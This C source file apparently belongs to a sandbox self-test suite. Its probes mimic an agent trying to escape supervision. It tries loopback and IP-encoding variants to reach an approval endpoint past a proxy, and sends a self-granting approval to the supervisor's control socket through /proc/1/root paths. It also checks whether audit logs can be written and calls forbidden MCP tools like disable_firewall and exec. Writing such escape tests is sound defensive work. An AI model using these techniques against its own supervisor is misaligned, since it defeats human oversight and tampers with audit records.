/*
 * H02, H07, H09, and the files of H08: what an agent would reach for that wants to decide for
 * itself, to read what others asked for, to write what is written of it, or to be let out.
 */
#include "probe/probe_mcp.h"

#include "probe/dlp.h"

#include "base/clean.h"
#include "base/io.h"
#include "base/log.h"
#include "base/mem.h"
#include "base/text.h"
#include "base/timeutil.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>

#define REFUSAL_LOOKS 40

static struct probe_mcp mcp;

/* --- H02: the face --- */

static const struct {
	const char *label, *request;
} through_proxy[] = {
	{"loopback", "POST http://127.0.0.1:%P/api/decide HTTP/1.1\r\nHost: 127.0.0.1:%P\r\n"},
	{"localhost", "POST http://localhost:%P/api/decide HTTP/1.1\r\nHost: localhost:%P\r\n"},
	{"zero", "POST http://0:%P/api/decide HTTP/1.1\r\nHost: 0:%P\r\n"},
	{"short", "POST http://127.1:%P/api/decide HTTP/1.1\r\nHost: 127.1:%P\r\n"},
	{"decimal", "POST http://2130706433:%P/api/decide HTTP/1.1\r\nHost: 2130706433:%P\r\n"},
	{"six", "POST http://[::1]:%P/api/decide HTTP/1.1\r\nHost: [::1]:%P\r\n"},
	{"mapped", "POST http://[::ffff:127.0.0.1]:%P/api/decide HTTP/1.1\r\nHost: "
		   "[::ffff:127.0.0.1]:%P\r\n"},
	{"allowed-host",
	 "POST http://ok.selftest.example:%P/api/decide HTTP/1.1\r\nHost: 127.0.0.1:%P\r\n"},
	{"engine", "POST http://host.docker.internal:%P/api/decide HTTP/1.1\r\n"
		   "Host: host.docker.internal:%P\r\n"},
	{"connect", "CONNECT 127.0.0.1:%P HTTP/1.1\r\nHost: 127.0.0.1:%P\r\n\r\n"
		    "POST /api/decide HTTP/1.1\r\nHost: 127.0.0.1:%P\r\n"},
	{"connect-name", "CONNECT localhost:%P HTTP/1.1\r\nHost: localhost:%P\r\n\r\n"
			 "POST /api/decide HTTP/1.1\r\nHost: localhost:%P\r\n"},
};

/* Whatever the page itself would say of it: what pipelock refuses never got as far. */
static bool is_from_beyond(const struct probe_reply *r)
{
	return r->n > 0 && !strstr(r->text, "\"reason\"");
}

static void ask_face(const struct probe_env *env, const char *id, const char *label,
		     const char *format)
{
	static struct probe_reply r;
	char token[PROBE_TOKEN_SIZE], port[8], detail[220];
	uint64_t start_ns = time_monotonic_ns();
	const char *rest = format;
	struct buf out = BUF_INIT(2048);
	int ret = 0;

	probe_token(env, id, label, token);
	(void)snprintf(port, sizeof(port), "%u", env->face);
	for (const char *at; (at = strstr(rest, "%P")); rest = at + 2)
		ret |= buf_printf(&out, "%.*s%s", (int)(at - rest), rest, port);
	ret |= buf_printf(&out, "%sX-Try: %s\r\nContent-Length: 2\r\n\r\n{}", rest, token);
	if (ret < 0)
		die("a request grew too large");
	probe_ask_proxy(env, buf_str(&out), &r);
	probe_describe_reply(&r, detail, sizeof(detail));
	probe_report(id, label, token, is_from_beyond(&r), (time_monotonic_ns() - start_ns) / 1000,
		     detail);
	buf_free(&out);
}

/* The manifest's own name for it: what stands against that is the page, which knows its name. */
static void ask_rebound(const struct probe_env *env, const char *id)
{
	static struct probe_reply r;
	char token[PROBE_TOKEN_SIZE], detail[220];
	_cleanup_free_ char *request = NULL;
	uint64_t start_ns = time_monotonic_ns();

	probe_token(env, id, "rebound", token);
	request = probe_fill("POST http://face.selftest.example/api/decide HTTP/1.1\r\n"
			     "Host: face.selftest.example\r\nX-Try: %T\r\n"
			     "Content-Length: 2\r\n\r\n{}",
			     token);
	probe_ask_proxy(env, str_of(request), &r);
	probe_describe_reply(&r, detail, sizeof(detail));
	probe_report(id, "rebound", token, r.status / 100 == 2,
		     (time_monotonic_ns() - start_ns) / 1000, detail);
}

/* --- the keeper's socket --- */

static int connect_unix(const char *path, int type)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);

	(void)snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	if (fd >= 0 && connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		close_fd(&fd);
	return fd;
}

/* True when a message went to it. */
static bool say_to_keeper(const char *path, const char *message)
{
	_cleanup_close_ int fd = connect_unix(path, SOCK_SEQPACKET);

	if (fd < 0)
		fd = connect_unix(path, SOCK_STREAM);
	return fd >= 0 && send(fd, message, strlen(message), MSG_NOSIGNAL) > 0;
}

static void ask_keeper(const struct probe_env *env, const char *id, const char *label,
		       const char *format)
{
	static const char *const roots[] = {"", "/proc/1/root", "/proc/self/root", "/host"};
	char token[PROBE_TOKEN_SIZE];
	_cleanup_free_ char *message = NULL;
	bool is_through = false;

	if (!env->state) {
		probe_skip(id, label, "the bottle's folder is not known");
		return;
	}
	probe_token(env, id, label, token);
	message = probe_fill(format, token);
	for (size_t i = 0; i < ARRAY_LEN(roots) && !is_through; i++) {
		_cleanup_free_ char *path = mem_printf("%s%s/control.sock", roots[i], env->state);

		is_through = say_to_keeper(path, message);
	}
	probe_report(id, label, token, is_through, 0, "control.sock, by its path");
}

static void run_h02(const struct probe_env *env, const char *id)
{
	if (env->face == 0 || !env->face_host) {
		probe_report_arrival(id, "face", false, 0, "there is no page to aim at");
		return;
	}
	if (env->pinned)
		probe_try_list(env, id, "page-bundle", env->pinned, env->face);
	if (env->hosts)
		probe_try_list(env, id, "page-host", env->hosts, env->face);
	probe_try_tcp(env, id, "page-loopback", env->face_host, env->face);
	for (size_t i = 0; i < ARRAY_LEN(through_proxy); i++)
		ask_face(env, id, through_proxy[i].label, through_proxy[i].request);
	ask_rebound(env, id);
	ask_keeper(env, id, "decide",
		   "d{\"id\":1,\"hash\":\"%T\",\"grant\":true,\"scope\":\"bottle\","
		   "\"release\":\"pass\",\"seconds\":0,\"manifest\":\"\",\"answer\":\"\","
		   "\"face\":\"command\"}");
}

/* --- H07 --- */

/* It comes to supervise by itself, a moment after it was refused. */
static bool await_refusal(const char *word)
{
	const struct timespec pause = {.tv_nsec = 50000000};
	bool is_listed = false;

	for (int i = 0; i < REFUSAL_LOOKS && !is_listed; i++) {
		if (i > 0)
			(void)nanosleep(&pause, NULL);
		(void)probe_mcp_call(&mcp, "recent_refusals", "{\"limit\":10}");
		is_listed = strstr(mcp.reply.text, word) != NULL;
	}
	return is_listed;
}

/* Refused for its path: by then pipelock has seen all of it. */
static void run_h07(const struct probe_env *env, const char *id)
{
	static const char *const labels[] = {"plain", "secret", "fragment"};
	static struct probe_reply r;
	char tokens[3][PROBE_TOKEN_SIZE], word[PROBE_TOKEN_SIZE], label[48];
	_cleanup_free_ char *secret = NULL, *request = NULL;
	bool is_listed;

	if (!probe_mcp_open(&mcp, env)) {
		probe_report_arrival(id, "session", false, 0, mcp.reply.error);
		return;
	}
	for (size_t i = 0; i < ARRAY_LEN(labels); i++)
		probe_token(env, id, labels[i], tokens[i]);
	probe_plain_token(env, "oracle", word);
	secret = dlp_shaped_secret(tokens[1]);
	/* Outside the server says what it was asked. */
	request = mem_printf("GET /echo-%s?q=%s&key=%s HTTP/1.1\r\nHost: bound.selftest.example\r\n"
			     "Referer: https://bound.selftest.example/#%s\r\n"
			     "Connection: close\r\n\r\n",
			     word, tokens[0], secret, tokens[2]);
	probe_ask_tunnel(env, "bound.selftest.example:443", "bound.selftest.example",
			 str_of(request), &r);
	is_listed = await_refusal(word);
	probe_report_arrival(id, "listed", is_listed, 0, "the refusal's path in recent_refusals");
	for (size_t i = 0; i < ARRAY_LEN(labels); i++) {
		const char *what = i == 1 ? secret : tokens[i];

		(void)snprintf(label, sizeof(label), "%s-body", labels[i]);
		probe_report(id, label, "", strstr(r.text, what) != NULL, 0,
			     "in the refusal itself");
		probe_report(id, labels[i], "", strstr(mcp.reply.text, what) != NULL, 0,
			     "in what recent_refusals tells");
	}
}

/* --- H08: files --- */

static bool may_write(const char *path)
{
	_cleanup_close_ int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC | O_NONBLOCK);

	return fd >= 0;
}

/* Whoever has it open: through /proc it could be written by name. */
static bool find_open(const char *name)
{
	_cleanup_closedir_ DIR *processes = opendir("/proc");
	struct dirent *process, *entry;
	bool found = false;

	while (processes && !found && (process = readdir(processes))) {
		char path[300], target[512];
		_cleanup_closedir_ DIR *fds = NULL;

		(void)snprintf(path, sizeof(path), "/proc/%.200s/fd", process->d_name);
		fds = ascii_is_digit(process->d_name[0]) ? opendir(path) : NULL;
		while (fds && !found && (entry = readdir(fds))) {
			_cleanup_free_ char *link = mem_printf("%s/%s", path, entry->d_name);
			ssize_t n = readlink(link, target, sizeof(target));

			found = n > 0 && str_ends(str_slice(target, (size_t)n), str_of(name)) &&
				may_write(link);
		}
	}
	return found;
}

static void run_h08_files(const struct probe_env *env, const char *id)
{
	static const char *const files[] = {"records.jsonl", "requests.db", "requests.db-wal",
					    "bottle.json", "runs"};
	_cleanup_close_ int mine = -1;
	_cleanup_free_ char *kept = NULL;

	if (!env->state) {
		probe_skip(id, "write", "the bottle's folder is not known");
		return;
	}
	kept = mem_printf("%s/records.jsonl", env->state);
	/* Outside the one that has it open is this process. */
	if (env->is_control)
		mine = open(kept, O_WRONLY | O_APPEND | O_CLOEXEC);
	for (size_t i = 0; i < ARRAY_LEN(files); i++) {
		char label[48];
		_cleanup_free_ char *path = mem_printf("%s/%s", env->state, files[i]),
				    *other = mem_printf("/proc/1/root%s", path);

		(void)snprintf(label, sizeof(label), "write-%s", files[i]);
		probe_report(id, label, "", may_write(path) || may_write(other), 0, path);
	}
	probe_report(id, "open-records", "", find_open("/records.jsonl"), 0,
		     "a process that has them open");
}

/* --- H09 --- */

/* Of what no tool's name or words may speak. */
static const char *const wall_words[] = {
	"disable",  "firewall", "sandbox", "turn off",	 "turns off the", "bypass",  "sudo",
	"approve_", "_approve", "unlock",  "set_policy", "allow_all",	  "escalat", "no_proxy",
};

static const char *const wall_tools[] = {
	"disable_firewall",
	"disable_sandbox",
	"stop_sandbox",
	"set_policy",
	"allow_all",
	"approve",
	"approve_request",
	"decide",
	"grant",
	"revoke",
	"pause",
	"resume",
	"stop",
	"exec",
	"shell",
	"write_manifest",
};

static const char *const wall_methods[] = {
	"supervise/approve", "requests/approve", "network/disable", "admin/policy",
	"shutdown",	     "logging/setLevel", "roots/list",
};

static void try_words(const char *id)
{
	const char *found = NULL;

	probe_mcp_post(&mcp, STR_LIT("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\"}"));
	for (size_t i = 0; i < ARRAY_LEN(wall_words) && !found; i++)
		found = strcasestr(mcp.reply.text, wall_words[i]) ? wall_words[i] : NULL;
	probe_report(id, "listed", "", found != NULL, 0, found ? found : "no such word");
}

static void run_h09(const struct probe_env *env, const char *id)
{
	char label[48], detail[200], body[200];

	if (!probe_mcp_open(&mcp, env)) {
		probe_report_arrival(id, "session", false, 0, mcp.reply.error);
		return;
	}
	try_words(id);
	for (size_t i = 0; i < ARRAY_LEN(wall_tools); i++) {
		bool is_result = probe_mcp_call(&mcp, wall_tools[i], "{}");

		(void)snprintf(label, sizeof(label), "tool-%s", wall_tools[i]);
		probe_mcp_describe(&mcp.reply, detail, sizeof(detail));
		probe_report(id, label, "", is_result, 0, detail);
	}
	for (size_t i = 0; i < ARRAY_LEN(wall_methods); i++) {
		(void)snprintf(label, sizeof(label), "method-%s", wall_methods[i]);
		(void)snprintf(body, sizeof(body),
			       "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"%s\",\"params\":{}}",
			       wall_methods[i]);
		probe_mcp_post(&mcp, str_of(body));
		probe_mcp_describe(&mcp.reply, detail, sizeof(detail));
		probe_report(id, label, "", probe_mcp_is_result(&mcp.reply), 0, detail);
	}
	ask_keeper(env, id, "keeper-network", "n{\"paused\":false,\"face\":\"%T\"}");
	ask_keeper(env, id, "keeper-stop", "k{\"grace_ms\":0,\"now\":false,\"face\":\"%T\"}");
}

const struct probe probes_supervise[] = {
	{"H02", run_h02}, {"H07", run_h07}, {"H08", run_h08_files}, {"H09", run_h09}};
const size_t n_probes_supervise = ARRAY_LEN(probes_supervise);
